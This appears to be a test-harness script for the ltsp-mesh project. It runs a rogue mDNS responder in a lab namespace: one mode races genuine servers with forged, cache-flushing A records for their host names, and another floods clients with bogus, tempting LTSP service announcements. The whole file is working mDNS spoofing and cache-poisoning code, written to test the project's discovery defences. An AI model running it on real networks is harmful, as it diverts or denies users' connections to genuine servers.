"""A rogue that tries to hide the genuine servers rather than attract logins (issue 11, item 3).

Run inside a lab namespace; prints "ready" once it is doing its trick.

    python hider.py addresses ADDRESS COUNT
        Learns the host names of COUNT genuine servers (a one-shot `_ltsp._tcp` question, as any
        client asks), then answers every mDNS question it hears, at once, with an A record for
        each of those names pointing at ADDRESS: by unicast to a one-shot querier (it beats the
        genuine servers, which answer a moment later), and by multicast with the cache-flush
        bit to the group, also unasked every 0.2 s, so that a browser's cache (a broker's)
        holds ADDRESS for every genuine host name.
    python hider.py flood COUNT EVERY_S SOURCE [SOURCE ...]
        Answers every one-shot `_ltsp._tcp` question with COUNT bogus services from each SOURCE
        address (addresses of this host), and, when EVERY_S is not 0, announces them to the
        group from each SOURCE every EVERY_S seconds (what a broker's browser hears): zero
        load, unsigned, each pointing at the address it came from.

Only the protocol's own numbers and python-zeroconf's DNS codec: nothing of ltsp-mesh's
discovery, which is what is under test.
"""

from __future__ import annotations

import select
import signal
import socket
import struct
import sys
import time
from pathlib import Path

from zeroconf import DNSAddress, DNSIncoming, DNSOutgoing, DNSPointer, DNSQuestion, DNSService, DNSText

from ltsp_mesh.core.codec import txt

try:
    from tests.records import record
except ModuleNotFoundError:  # run as a script in a lab namespace: the repository is not on sys.path
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
    from tests.records import record

TYPE = "_ltsp._tcp.local."
GROUP, PORT = "224.0.0.251", 5353
# RFC 1035 section 3.2 and 4.1.1, RFC 2782, RFC 6762 section 10.2 (the cache-flush bit).
_TYPE_A, _TYPE_PTR, _TYPE_TXT, _TYPE_SRV, _CLASS_IN, _CACHE_FLUSH = 1, 12, 16, 33, 1, 0x8000
_FLAGS_QUERY, _FLAGS_RESPONSE = 0x0000, 0x8400  # QR and AA for a response
TTL = 120
PER_PACKET = 8
TEMPTING = txt.encode_rdata(
    txt.encode(record(server_id="hidden", cpus=64, load_per_cpu=0.0, mem_percent=1, capacity=64))
)


def _group_listener(address: str) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind((GROUP, PORT))
    membership = struct.pack("4s4s", socket.inet_aton(GROUP), socket.inet_aton(address))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    return sock


def _sender(address: str, port: int = 0) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    sock.bind((address, port))
    return sock


def _genuine_hosts(address: str, count: int) -> list[str]:
    """The SRV host names the genuine servers give a one-shot question, once COUNT answered."""
    hosts: set[str] = set()
    with _sender(address) as sock:
        for attempt in range(100):
            out = DNSOutgoing(_FLAGS_QUERY, multicast=False, id_=attempt + 1)
            out.add_question(DNSQuestion(TYPE, _TYPE_PTR, _CLASS_IN))
            for packet in out.packets():
                sock.sendto(packet, (GROUP, PORT))
            end = time.monotonic() + 0.3
            while (left := end - time.monotonic()) > 0:
                if not select.select([sock], [], [], left)[0]:
                    break
                data, source = sock.recvfrom(9000)
                message = DNSIncoming(data, source)
                hosts.update(r.server for r in message.answers() if isinstance(r, DNSService))
            if len(hosts) >= count:
                return sorted(hosts)
    raise SystemExit(f"found {len(hosts)} of {count} genuine servers")


def _goodbyes_on_sigterm(send: list[tuple[socket.socket, list[bytes]]]) -> None:
    """On SIGTERM, say goodbye (TTL 0) to every record announced, so no cache keeps them after."""

    def goodbye(signum: int, frame: object) -> None:
        for sock, packets in send:
            for packet in packets:
                sock.sendto(packet, (GROUP, PORT))
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, goodbye)


def _answer(
    flags: int, query_id: int, records: list[DNSAddress | DNSPointer | DNSService | DNSText]
) -> list[bytes]:
    out = []
    for start in range(0, len(records), PER_PACKET * 4):
        message = DNSOutgoing(flags, multicast=query_id == 0, id_=query_id)
        for r in records[start : start + PER_PACKET * 4]:
            message.add_answer_at_time(r, 0)
        out.extend(message.packets())
    return out


def addresses(address: str, count: int) -> None:
    hosts = _genuine_hosts(address, count)
    own = socket.inet_aton(address)
    forged = [DNSAddress(h, _TYPE_A, _CLASS_IN, TTL, own) for h in hosts]
    flushing = [DNSAddress(h, _TYPE_A, _CLASS_IN | _CACHE_FLUSH, TTL, own) for h in hosts]
    listener, unicast, multicast = _group_listener(address), _sender(address), _sender(address, PORT)
    # Built once with id 0: answering is patching in the question's id, so the rogue's answer
    # leaves before the genuine servers' (python-zeroconf parses the question first).
    templates = _answer(_FLAGS_RESPONSE, 0xFFFF, list(forged))
    gone = [DNSAddress(h, _TYPE_A, _CLASS_IN, 0, own) for h in hosts]
    _goodbyes_on_sigterm([(multicast, _answer(_FLAGS_RESPONSE, 0, list(gone)))])
    print("ready", " ".join(hosts), flush=True)
    next_announce = 0.0
    while True:
        now = time.monotonic()
        if now >= next_announce:
            for packet in _answer(_FLAGS_RESPONSE, 0, list(flushing)):
                multicast.sendto(packet, (GROUP, PORT))
            next_announce = now + 0.2
        if not select.select([listener], [], [], max(0.0, next_announce - now))[0]:
            continue
        data, (source, port) = listener.recvfrom(9000)
        if source == address or len(data) < 12 or data[2] & 0x80:  # not a question
            continue
        if port != PORT:  # a one-shot (legacy unicast) question: answer it first, with its id
            for packet in templates:
                unicast.sendto(data[:2] + packet[2:], (source, port))
        else:
            for packet in _answer(_FLAGS_RESPONSE, 0, list(flushing)):
                multicast.sendto(packet, (GROUP, PORT))


def _bogus(
    source: str, count: int, class_: int, ttl: int = TTL
) -> list[DNSAddress | DNSPointer | DNSService | DNSText]:
    label = source.replace(".", "-")
    own = socket.inet_aton(source)
    records: list[DNSAddress | DNSPointer | DNSService | DNSText] = []
    for i in range(count):
        instance, host = f"bogus{i}-{label}.{TYPE}", f"bogus{i}-{label}.local."
        records += [
            DNSPointer(TYPE, _TYPE_PTR, _CLASS_IN, ttl, instance),
            DNSService(instance, _TYPE_SRV, class_, ttl, 0, 0, 22, host),
            DNSText(instance, _TYPE_TXT, class_, ttl, TEMPTING),
            DNSAddress(host, _TYPE_A, class_, ttl, own),
        ]
    return records


def flood(count: int, every_s: float, sources: list[str]) -> None:
    listener = _group_listener(sources[0])
    senders = {s: _sender(s) for s in sources}
    announcers = {s: _sender(s, PORT) for s in sources}
    # Built once, the question's id patched in: the flood leaves before the genuine answers.
    unicast = {s: _answer(_FLAGS_RESPONSE, 0xFFFF, _bogus(s, count, _CLASS_IN)) for s in sources}
    announced = {s: _answer(_FLAGS_RESPONSE, 0, _bogus(s, count, _CLASS_IN | _CACHE_FLUSH)) for s in sources}
    _goodbyes_on_sigterm(
        [(announcers[s], _answer(_FLAGS_RESPONSE, 0, _bogus(s, count, _CLASS_IN, ttl=0))) for s in sources]
    )
    print("ready", flush=True)
    next_announce = 0.0
    while True:
        now = time.monotonic()
        if every_s and now >= next_announce:
            for s, packets in announced.items():
                for packet in packets:
                    announcers[s].sendto(packet, (GROUP, PORT))
            next_announce = now + every_s
        elif not every_s:
            next_announce = now + 1.0  # only the select's timeout
        if not select.select([listener], [], [], max(0.0, next_announce - now))[0]:
            continue
        data, (source, port) = listener.recvfrom(9000)
        message = DNSIncoming(data, (source, port))
        if port == PORT or source in senders or not message.valid or not message.is_query():
            continue
        if any(q.name.lower() == TYPE.lower() and q.type == _TYPE_PTR for q in message.questions):
            for s, packets in unicast.items():
                for packet in packets:
                    senders[s].sendto(data[:2] + packet[2:], (source, port))


if __name__ == "__main__":
    if sys.argv[1] == "addresses":
        addresses(sys.argv[2], int(sys.argv[3]))
    else:
        flood(int(sys.argv[2]), float(sys.argv[3]), sys.argv[4:])
